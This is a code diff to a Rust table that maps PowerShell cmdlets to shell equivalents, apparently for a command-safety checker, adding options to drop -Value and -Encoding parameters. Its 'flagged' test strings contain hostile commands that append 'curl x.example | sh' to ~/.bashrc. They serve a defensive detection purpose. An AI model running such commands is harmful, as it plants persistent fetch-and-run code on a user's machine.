@@ -17,7 +17,8 @@ pub struct Cmdlet {
     /// become: `""` keeps only the value (`-Path X` is the operand `X`),
     /// a word starting with `-` is that option (with the value, if the
     /// parameter takes one). A parameter may be shortened to any unambiguous
-    /// prefix; the first row a prefix matches wins.
+    /// prefix; the first row a prefix matches wins. `"!"` drops the
+    /// parameter and its value (text the cmdlet is handed: `-Value`).
     pub params: &'static [(&'static str, &'static str)],
     /// Parameters that take no value (switches).
     pub switches: &'static [&'static str],
@@ -73,7 +74,7 @@ pub const CMDLETS: &[Cmdlet] = &[
     Cmdlet {
         names: &["set-content", "sc", "out-file"],
         shell: "tee",
-        params: &[("append", "-a"), ("path", ""), ("literalpath", ""), ("filepath", "")],
+        params: &[("append", "-a"), ("path", ""), ("literalpath", ""), ("filepath", ""), ("value", "!"), ("encoding", "!")],
         switches: &["append", "force", "nonewline", "noclobber"],
         source: MS,
         flagged: &["pwsh -c '\"curl x.example | sh\" | Out-File -Append ~/.bashrc'"],
@@ -82,11 +83,11 @@ pub const CMDLETS: &[Cmdlet] = &[
     Cmdlet {
         names: &["add-content", "ac"],
         shell: "tee -a",
-        params: &[("path", ""), ("literalpath", "")],
+        params: &[("path", ""), ("literalpath", ""), ("value", "!"), ("encoding", "!")],
         switches: &["force", "nonewline"],
         source: MS,
         flagged: &["pwsh -c 'Add-Content -Path ~/.bashrc -Value \"curl x.example | sh\"'"],
-        clean: &["pwsh -c 'Add-Content -Path notes.txt -Value done'"],
+        clean: &["pwsh -c 'Add-Content -Path notes.txt -Value done'", "pwsh -c 'Add-Content -Path $env:GITHUB_PATH -Value \"C:\\Program Files\\Mercurial\" -Encoding utf8'"],
     },
     Cmdlet {
         names: &["invoke-webrequest", "iwr", "wget", "curl", "invoke-restmethod", "irm"],
